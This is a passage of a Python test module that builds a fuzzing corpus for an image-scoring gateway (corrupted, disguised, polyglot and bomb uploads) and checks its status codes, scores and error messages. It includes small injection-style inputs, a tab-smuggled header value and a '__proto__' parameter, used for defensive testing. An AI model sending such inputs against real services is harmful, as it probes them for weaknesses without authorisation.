        ),
        case("header-label-injection", refused, headers=[("x-model-version", "stable\tcanary")]),
        case("header-pins-stable", good, headers=[("x-model-version", "stable")]),
        case("odd-request-id", good, headers=[("x-request-id", "id with spaces and <html>")]),
        case("long-request-id", good, headers=[("x-request-id", "r" * 4000)]),
        case("unknown-query-parameter", good, params=[("debug", "true"), ("__proto__", "x")]),
    ]


# ---------------------------------------------------------------- the corpus


@dataclass
class CorpusBuilder:
    seed: int = 0
    scale: int = 1
    uploads: list[Upload] = field(default_factory=list)
    _names: set[str] = field(default_factory=set)

    def add_file(self, category: str, name: str, data: bytes, filename: str, content_type: str) -> None:
        full_name = f"{category}/{name}"
        if full_name in self._names:
            raise ValueError(f"duplicate corpus name {full_name}")
        self._names.add(full_name)
        expected = image_expectation(data)
        self.uploads.append(
            Upload(full_name, category, expected, files=(("file", (filename, data, content_type)),))
        )

    def add_files(
        self, category: str, files: Iterable[tuple[str, bytes]], filename: str = "upload.bin"
    ) -> None:
        for name, data in files:
            self.add_file(category, name, data, filename, "application/octet-stream")


def build_corpus(real_files: dict[str, bytes], seed: int = 0, scale: int = 1) -> list[Upload]:
    """The whole corpus, deterministic for (real_files, seed, scale); scale 1 is sized for CI."""
    rng = random.Random(seed)
    builder = CorpusBuilder(seed, scale)
    seeds = base_files(real_files)
    for name, data in seeds.items():
        builder.add_file("valid", name, data, f"{name}.img", "image/*")
    for name, data in mode_files().items():
        builder.add_file("modes", name, data, f"{name}.img", "image/*")
    for name, data in seeds.items():
        builder.add_files(
            "truncated", ((f"{name}/{label}", cut) for label, cut in truncations(data, 16 * scale))
        )
        builder.add_files(
            "bit-flipped", ((f"{name}/{label}", cut) for label, cut in bit_flips(data, 40 * scale, rng))
        )
        builder.add_files(
            "overwritten", ((f"{name}/{label}", cut) for label, cut in overwrites(data, 10 * scale, rng))
        )
    builder.add_files("empty-and-tiny", magic_only_files(rng).items())
    for name, payload in TEXT_PAYLOADS.items():
        for filename, content_type in IMAGE_NAMES:
            builder.add_file("disguised", f"{name}-as-{filename}", payload, filename, content_type)
    valid_jpeg, valid_png = seeds["jpeg-baseline"], seeds["png-rgb"]
    for index, content_type in enumerate(WRONG_CONTENT_TYPES):
        builder.add_file("wrong-content-type", f"jpeg-{index}", valid_jpeg, "photo.jpg", content_type)
        builder.add_file("wrong-content-type", f"png-as-jpg-{index}", valid_png, "photo.jpg", content_type)
    for category, files in (
        ("bombs", bomb_files()),
        ("animated", animated_files()),
        ("polyglot", polyglot_files()),
        ("metadata", metadata_files()),
    ):
        builder.add_files(category, files.items())
    builder.uploads.extend(multipart_cases(valid_jpeg))
    builder.uploads.extend(parameter_cases(valid_jpeg))
    return builder.uploads


def batches_of(uploads: Sequence[Upload], size: int = 16) -> list[Upload]:
    """The single-file image cases again, `size` per /predict/batch request: each file must get the
    status it gets alone, in its own item, and the good ones their score."""
    singles = [
        upload
        for upload in uploads
        if upload.path == "/predict"
        and len(upload.files) == 1
        and not upload.params
        and not upload.headers
        and upload.size < 4 * MEBIBYTE
    ]
    batches = []
    for start in range(0, len(singles), size):
        group = singles[start : start + size]
        files = tuple(("files", upload.files[0][1]) for upload in group)
        items = tuple(upload.expected for upload in group)
        batches.append(
            Upload(
                f"batch/{start // size}",
                "batch",
                Expected(frozenset({200}), items=items),
                path="/predict/batch",
                files=files,
            )
        )
    return batches


def real_upload_seeds(uploads_dir: Path) -> dict[str, bytes]:
    """The smallest real upload of each format in ../shared/data/uploads."""
    smallest: dict[str, Path] = {}
    for path in uploads_dir.iterdir():
        suffix = path.suffix.lower().replace(".jpeg", ".jpg")
        if suffix not in (".jpg", ".png", ".webp"):
            continue
        if suffix not in smallest or path.stat().st_size < smallest[suffix].stat().st_size:
            smallest[suffix] = path
    return {suffix.lstrip("."): path.read_bytes() for suffix, path in sorted(smallest.items())}


# ---------------------------------------------------------------- checking answers


def problems(upload: Upload, status: int, body: bytes, json_body: Callable[[], object]) -> list[str]:
    """What is wrong with the gateway's answer to `upload` (empty: the answer is right)."""
    found: list[str] = []
    expected = upload.expected
    if status >= 500:
        found.append(f"server error {status}")
    if status not in expected.statuses:
        found.append(f"status {status}, expected one of {sorted(expected.statuses)}")
    try:
        document = json_body()
    except ValueError:
        return [*found, f"body is not JSON: {body[:200]!r}"]
    if not isinstance(document, dict):
        return [*found, f"body is not a JSON object: {body[:200]!r}"]
    if status != 200:
        if document.get("success") is not False or not str(document.get("error", "")).strip():
            found.append(f"error answer without a message: {body[:300]!r}")
        return found
    if document.get("success") is not True:
        found.append("200 without success: true")
    if upload.path == "/predict":
        if expected.score is not None and abs(float(document.get("score", -1)) - expected.score) > 1e-5:
            found.append(f"score {document.get('score')} != expected {expected.score:.6f}")
        if expected.filename is not None and document.get("filename") != expected.filename:
            found.append(f"filename {document.get('filename')!r} != {expected.filename!r}")
        if len(str(document.get("filename", ""))) > 255:
            found.append("filename longer than 255 characters")
    elif expected.items:
        results = document.get("results", [])
        if len(results) != len(expected.items):
            return [*found, f"{len(results)} results for {len(expected.items)} files"]
        for index, (item, result) in enumerate(zip(expected.items, results, strict=True)):
            item_status = 200 if result.get("success") else result.get("status")
            if item_status not in item.statuses:
                found.append(f"item {index}: status {item_status}, expected {sorted(item.statuses)}")
            elif item_status == 200 and item.score is not None:
                if abs(float(result.get("score", -1)) - item.score) > 1e-5:
                    found.append(f"item {index}: score {result.get('score')} != {item.score:.6f}")
            elif item_status != 200 and not result.get("error"):
                found.append(f"item {index}: refused without a message")
    return found
